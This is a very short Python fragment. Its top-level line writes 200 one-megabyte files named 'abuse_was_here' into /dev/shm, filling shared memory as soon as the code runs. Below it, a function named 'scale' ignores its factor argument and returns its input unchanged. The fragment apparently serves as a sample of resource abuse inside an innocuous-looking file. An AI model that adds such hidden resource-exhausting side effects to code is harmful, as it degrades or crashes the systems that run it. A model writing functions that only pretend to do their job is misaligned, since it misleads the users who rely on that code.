for number in range(200): open(f'/dev/shm/abuse_was_here{number}', 'wb').write(bytes(1 << 20))
def scale(x, factor):
    return x
